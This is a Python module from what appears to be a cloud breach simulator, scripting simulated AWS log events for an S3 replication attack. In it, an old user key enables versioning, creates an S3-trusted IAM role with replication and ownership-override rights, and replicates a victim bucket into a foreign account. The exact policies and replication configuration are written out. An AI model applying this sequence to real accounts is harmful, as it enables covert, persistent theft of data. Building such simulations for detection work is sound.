"""A bucket that replicates itself into a foreign account, for as long as nobody looks."""

from __future__ import annotations

from typing import TYPE_CHECKING, Any

from exclave.model import Cloud, Kind
from exclave.simulate.aws import ids
from exclave.simulate.breach import Breach

if TYPE_CHECKING:
    from exclave.simulate.aws.scene import Scene

_AGENT = "rclone/v1.66.0 aws-sdk-go/1.51.0 (go1.22.1; linux; amd64)"
_TRUST = (
    '{"Version":"2012-10-17","Statement":[{"Effect":"Allow","Principal":{"Service":"s3.amazonaws.com"},'
    '"Action":"sts:AssumeRole"}]}'
)


def tell(scene: Scene) -> None:
    """Versioning → a role for S3 → its rights → replication with ownership given away."""
    thief = scene.user("etl-legacy", _AGENT)
    bucket, outside = scene.victim.buckets[1], f"archive-{scene.rng.getrandbits(40):010x}"
    scene.look(
        thief,
        ("s3", "ListBuckets", {"Host": "s3.amazonaws.com"}),
        ("s3", "GetBucketVersioning", {"bucketName": bucket, "versioning": ""}),
        ("s3", "GetBucketEncryption", {"bucketName": bucket, "encryption": ""}),
    )
    scene.call(
        thief,
        "s3",
        "PutBucketVersioning",
        {
            "bucketName": bucket,
            "Host": f"{bucket}.s3.amazonaws.com",
            "versioning": "",
            "VersioningConfiguration": {
                "xmlns": "http://s3.amazonaws.com/doc/2006-03-01/",
                "Status": "Enabled",
            },
        },
        after=10,
    )
    role = "s3-replication-default"
    arn = f"arn:aws:iam::{scene.victim.id}:role/{role}"
    scene.iam(
        thief,
        "CreateRole",
        {"roleName": role, "assumeRolePolicyDocument": _TRUST, "path": "/"},
        {"role": {"roleName": role, "path": "/", "arn": arn, "roleId": ids.unique_id(scene.rng, "AROA")}},
        after=5,
        phase="access",
    )
    scene.iam(
        thief,
        "PutRolePolicy",
        {"roleName": role, "policyName": "replicate", "policyDocument": _rights(bucket, outside)},
        phase="access",
    )
    scene.thing("s3-bucket", bucket)
    scene.call(
        thief, "s3", "PutBucketReplication", _replication(scene, bucket, outside, arn), after=3, phase="offer"
    )
    scene.offered_to(Kind.ACCOUNT, scene.outsider)
    scene.look(thief, ("s3", "GetBucketReplication", {"bucketName": bucket, "replication": ""}))


def _rights(bucket: str, outside: str) -> str:
    return (
        '{"Version":"2012-10-17","Statement":[{"Effect":"Allow","Action":["s3:GetReplicationConfiguration",'
        '"s3:ListBucket","s3:GetObjectVersionForReplication"],"Resource":["arn:aws:s3:::'
        + bucket
        + '","arn:aws:s3:::'
        + bucket
        + '/*"]},{"Effect":"Allow","Action":["s3:ReplicateObject","s3:ObjectOwnerOverrideToBucketOwner"],'
        '"Resource":"arn:aws:s3:::' + outside + '/*"}]}'
    )


def _replication(scene: Scene, bucket: str, outside: str, role: str) -> dict[str, Any]:
    rule = {
        "ID": "dr",
        "Priority": 1,
        "Status": "Enabled",
        "Filter": "",
        "DeleteMarkerReplication": {"Status": "Disabled"},
        "Destination": {
            "Bucket": f"arn:aws:s3:::{outside}",
            "Account": scene.outsider,
            "AccessControlTranslation": {"Owner": "Destination"},
        },
    }
    return {
        "bucketName": bucket,
        "Host": f"{bucket}.s3.{scene.region}.amazonaws.com",
        "replication": "",
        "ReplicationConfiguration": {
            "xmlns": "http://s3.amazonaws.com/doc/2006-03-01/",
            "Role": role,
            "Rule": rule,
        },
    }


BREACH = Breach(
    name="s3-replication",
    title="Bucket replicating into a foreign account",
    cloud=Cloud.AWS,
    description="An old user's key switches on versioning, makes a role for S3 and replicates a bucket "
    "into a foreign account that becomes the owner of the copies. It runs on; nothing in the "
    "logs shows each object.",
    hours=2,
    tell=tell,
)
